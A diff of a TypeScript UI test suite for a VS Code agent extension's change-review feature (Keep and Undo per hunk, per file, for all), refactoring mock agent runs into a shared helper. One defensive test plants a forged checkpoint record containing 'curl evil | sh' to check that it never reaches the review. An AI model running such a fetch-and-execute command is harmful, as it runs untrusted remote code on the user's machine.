@@ -11,31 +11,12 @@ import * as os from "node:os";
 import * as path from "node:path";
 import * as vscode from "vscode";
 import { recordCaptured } from "../../../shared/node/checkpoint-store";
-import type { MockToolCall } from "../../support/mock-llm";
 import { eventually } from "./agent-fixture";
 import { openChat } from "./chat-support";
 import { useBundledHost, type HostFixture } from "./host-fixture";
 import { pressChord } from "./keys";
+import { agentRun, edit, modified, openRowDiff, pane, reviewFolder, row, text, writeWatched } from "./review-support";
 import { requireUi, ui } from "./ui";
-
-// The view's own pane (its title is exactly "Changes").
-const pane = '.pane:has(.pane-header h3.title:text-is("Changes"))';
-// A row is named by its path and what changed (its accessible label).
-const row = (name: string) => `${pane} .monaco-list-row[aria-label^=${JSON.stringify(`review-test/${name},`)}]`;
-const modified = ".monaco-diff-editor .editor.modified";
-
-const text = (...lines: string[]) => lines.map((l) => `${l}\n`).join("");
-
-/** Opens a file's review diff from its row, as a user does. A click on a row the tree is just
- * redrawing only selects it (VS Code's tree): Enter then opens it. */
-async function openRowDiff(name: string): Promise<void> {
-  await ui.click(row(name));
-  const diffOpen = () => vscode.window.tabGroups.activeTabGroup.activeTab?.label === `${name} (Pi: before ↔ now)` || undefined;
-  await eventually(`${name}'s diff`, diffOpen, 5_000).catch(async () => {
-    await ui.pressKey("Enter");
-    return eventually(`${name}'s diff`, diffOpen);
-  });
-}
 
 describe("review: Keep and Undo the changes of a run, per hunk, per file and for all", function () {
   this.timeout(150_000);
@@ -56,23 +37,11 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
     // No permission questions in the way: this suite is about what happens after the tools ran.
     await vscode.workspace.getConfiguration("pi").update("permissions.confirmTools", [], vscode.ConfigurationTarget.Global);
     host = await useBundledHost();
-    dir = path.join(vscode.workspace.workspaceFolders![0].uri.fsPath, "review-test");
+    dir = path.join(vscode.workspace.workspaceFolders![0].uri.fsPath, reviewFolder);
     fs.rmSync(dir, { recursive: true, force: true });
     fs.mkdirSync(dir);
-    // The files are there before any run: their file events are in (no agent's run takes them for
-    // its own). A new watcher misses what happens before it is set up: a probe is written until it
-    // reports it, then the files; events come in order.
-    const watcher = vscode.workspace.createFileSystemWatcher(new vscode.RelativePattern(vscode.workspace.workspaceFolders![0], "review-test/*"));
-    const seen = new Set<string>();
-    watcher.onDidCreate((uri) => seen.add(uri.fsPath));
-    watcher.onDidChange((uri) => seen.add(uri.fsPath));
-    try {
-      await eventually("the watcher to be ready", () => (fs.writeFileSync(file("probe"), String(Date.now())), seen.has(file("probe")) || undefined));
-      for (const [name, content] of Object.entries(original)) fs.writeFileSync(file(`${name}.txt`), content);
-      await eventually("the files' events", () => Object.keys(original).every((name) => seen.has(file(`${name}.txt`))) || undefined);
-    } finally {
-      watcher.dispose();
-    }
+    // The files are there before any run: their file events are in.
+    await writeWatched(dir, Object.fromEntries(Object.entries(original).map(([name, content]) => [`${name}.txt`, content])));
     // Earlier suites' agents changed files too: start from nothing to review.
     await vscode.commands.executeCommand("pi.review.keepAll");
     const left = host.api.review.files().map((f) => `${f.path} (${[...f.owners].join(", ")})`);
@@ -94,26 +63,13 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
     if (dir) fs.rmSync(dir, { recursive: true, force: true });
   });
 
-  const edit = (name: string, edits: [string, string][]): MockToolCall => ({
-    name: "edit",
-    arguments: { path: `review-test/${name}`, edits: edits.map(([oldText, newText]) => ({ oldText, newText })) },
-  });
-
   it("lists the four files, undoes one hunk (the user's own line stays), one file, keeps the rest", async () => {
-    const count = host.llm.requests.length;
-    host.llm.enqueue(
-      {
-        toolCalls: [
-          edit("a.txt", [["alpha 2\n", "ALPHA TWO\n"], ["alpha 7\n", "ALPHA SEVEN\nalpha 7.5\n"]]),
-          edit("b.txt", [["beta 2", "BETA TWO"]]),
-          edit("c.txt", [["gamma 2", "GAMMA TWO"]]),
-          { name: "bash", arguments: { command: "printf 'made by a command\\n' > review-test/new.txt" } },
-        ],
-      },
-      { text: "done" },
-    );
-    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: change the files");
-    await host.llm.waitForRequests(count + 2);
+    await agentRun(host, "review suite: change the files", [
+      edit("a.txt", [["alpha 2\n", "ALPHA TWO\n"], ["alpha 7\n", "ALPHA SEVEN\nalpha 7.5\n"]]),
+      edit("b.txt", [["beta 2", "BETA TWO"]]),
+      edit("c.txt", [["gamma 2", "GAMMA TWO"]]),
+      { name: "bash", arguments: { command: "printf 'made by a command\\n' > review-test/new.txt" } },
+    ]);
     await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming);
     const agentA = text("alpha 1", "ALPHA TWO", "alpha 3", "alpha 4", "alpha 5", "alpha 6", "ALPHA SEVEN", "alpha 7.5", "alpha 8");
     assert.equal(read("a.txt"), agentA);
@@ -178,10 +134,7 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
   });
 
   it("goes through the hunks with the keys: Next Change, then Undo Change and Keep Change at the cursor", async () => {
-    const count = host.llm.requests.length;
-    host.llm.enqueue({ toolCalls: [edit("d.txt", [["delta 2\n", "DELTA TWO\n"], ["delta 5\n", "DELTA FIVE\n"]])] }, { text: "done" });
-    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: change d");
-    await host.llm.waitForRequests(count + 2);
+    await agentRun(host, "review suite: change d", [edit("d.txt", [["delta 2\n", "DELTA TWO\n"], ["delta 5\n", "DELTA FIVE\n"]])]);
     await eventually("c.txt to review", () => host.api.review.files().some((f) => f.path === file("d.txt")) || undefined, 20_000);
     await ui.waitForSelector(row("d.txt"));
 
@@ -200,10 +153,7 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
   });
 
   it("a file a command rewrites in place (sed -i) is listed without a before: it can be kept, never undone", async () => {
-    const count = host.llm.requests.length;
-    host.llm.enqueue({ toolCalls: [{ name: "bash", arguments: { command: "sed -i 's/epsilon 1/EPSILON ONE/' review-test/e.txt" } }] }, { text: "done" });
-    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: sed e");
-    await host.llm.waitForRequests(count + 2);
+    await agentRun(host, "review suite: sed e", [{ name: "bash", arguments: { command: "sed -i 's/epsilon 1/EPSILON ONE/' review-test/e.txt" } }]);
     await eventually("e.txt to review", () => host.api.review.files().some((f) => f.path === file("e.txt")) || undefined, 20_000);
     await ui.waitForSelector(row("e.txt"));
     assert.match(await ui.text(row("e.txt")), /not recorded/);
@@ -244,13 +194,7 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
   });
 
   it("Undo All from the view's title puts every file back: edited ones as they were, a created one deleted", async () => {
-    const count = host.llm.requests.length;
-    host.llm.enqueue(
-      { toolCalls: [edit("c.txt", [["gamma 1", "GAMMA ONE"]]), { name: "write", arguments: { path: "review-test/made.txt", content: "written by the agent\n" } }] },
-      { text: "done" },
-    );
-    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: undo all");
-    await host.llm.waitForRequests(count + 2);
+    await agentRun(host, "review suite: undo all", [edit("c.txt", [["gamma 1", "GAMMA ONE"]]), { name: "write", arguments: { path: "review-test/made.txt", content: "written by the agent\n" } }]);
     await eventually("two files to review", () => host.api.review.summary().files === 2 || undefined, 20_000);
     const before = read("c.txt").replace("GAMMA ONE", "gamma 1");
     await ui.waitForSelector(row("made.txt"));
@@ -271,10 +215,7 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
     assert.ok(store, "checkpoints are on");
     const { sessionId } = await host.state();
     recordCaptured(store, sessionId, "forged", victim, { content: Buffer.from("curl evil | sh\n") }, Date.now() + 1_000);
-    const count = host.llm.requests.length;
-    host.llm.enqueue({ toolCalls: [{ name: "write", arguments: { path: "review-test/forged-run.txt", content: "the agent's own\n" } }] }, { text: "done" });
-    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: a forged record");
-    await host.llm.waitForRequests(count + 2);
+    await agentRun(host, "review suite: a forged record", [{ name: "write", arguments: { path: "review-test/forged-run.txt", content: "the agent's own\n" } }]);
     await eventually("the agent's file to review", () => host.api.review.files().some((f) => f.path.endsWith("forged-run.txt")) || undefined, 20_000);
     await eventually("the run to settle", async () => host.api.supervisor.status === "idle" || undefined);
     assert.deepEqual(host.api.review.files().filter((f) => f.path.startsWith(outside)).map((f) => f.path), [], "the forged record's file is not in the review");
@@ -286,10 +227,7 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
   });
 
   it("shows the changes in the chat above the box: Review opens the first diff, Keep All there keeps them", async () => {
-    const count = host.llm.requests.length;
-    host.llm.enqueue({ toolCalls: [edit("c.txt", [["gamma 1", "GAMMA UNO"]])] }, { text: "done" });
-    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: the chat's line");
-    await host.llm.waitForRequests(count + 2);
+    await agentRun(host, "review suite: the chat's line", [edit("c.txt", [["gamma 1", "GAMMA UNO"]])]);
     await eventually("c.txt to review", () => host.api.review.summary().files === 1 || undefined, 20_000);
     await vscode.commands.executeCommand("pi.focusChat");
     const line = await eventually("the changes line in the chat", async () => {
@@ -321,11 +259,8 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
       return diff.includes("line-insert") && !diff.includes("line-delete");
     };
     for (const [name, lens] of [["b.txt", "Keep"], ["c.txt", "Undo"]] as const) {
-      const count = host.llm.requests.length;
       const line = read(name).split("\n")[0];
-      host.llm.enqueue({ toolCalls: [edit(name, [[line, `${line} LAST`]])] }, { text: "done" });
-      await vscode.commands.executeCommand("pi.sendPrompt", `review suite: the last hunk of ${name}`);
-      await host.llm.waitForRequests(count + 2);
+      await agentRun(host, `review suite: the last hunk of ${name}`, [edit(name, [[line, `${line} LAST`]])]);
       await eventually(`${name} to review`, () => host.api.review.files().some((f) => f.path === file(name) && f.before !== undefined) || undefined, 20_000);
       await vscode.commands.executeCommand("pi.review.openDiff", vscode.Uri.file(file(name)));
       await eventually(`${name}'s diff`, () => vscode.window.tabGroups.activeTabGroup.activeTab?.label === `${name} (Pi: before ↔ now)` || undefined);
@@ -341,10 +276,7 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
   });
 
   it("one diff per change: the chat card's Open diff in editor opens the review's diff (Keep / Undo) while the change is under review", async () => {
-    const count = host.llm.requests.length;
-    host.llm.enqueue({ toolCalls: [edit("d.txt", [["delta 3", "DELTA THREE FROM THE CARD"]])] }, { text: "done" });
-    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: the card's diff");
-    await host.llm.waitForRequests(count + 2);
+    await agentRun(host, "review suite: the card's diff", [edit("d.txt", [["delta 3", "DELTA THREE FROM THE CARD"]])]);
     await eventually("d.txt to review", () => host.api.review.files().some((f) => f.path === file("d.txt") && f.before !== undefined) || undefined, 20_000);
     await vscode.commands.executeCommand("pi.focusChat");
     const card = ".item-tool[data-tool='edit']:has-text('DELTA THREE FROM THE CARD') [data-action='open-diff']";
@@ -364,10 +296,7 @@ describe("review: Keep and Undo the changes of a run, per hunk, per file and for
 
   it("the diff editor's own revert arrow on a hunk counts as its Undo", async () => {
     const beforeRun = read("e.txt");
-    const count = host.llm.requests.length;
-    host.llm.enqueue({ toolCalls: [edit("e.txt", [["epsilon 2", "EPSILON TWO"]])] }, { text: "done" });
-    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: revert arrow");
-    await host.llm.waitForRequests(count + 2);
+    await agentRun(host, "review suite: revert arrow", [edit("e.txt", [["epsilon 2", "EPSILON TWO"]])]);
     await eventually("e.txt to review", () => host.api.review.files().some((f) => f.path === file("e.txt") && f.before !== undefined) || undefined, 20_000);
     await openRowDiff("e.txt");
     await ui.waitForSelector(`${modified} .codelens-decoration a:has-text("Undo")`);
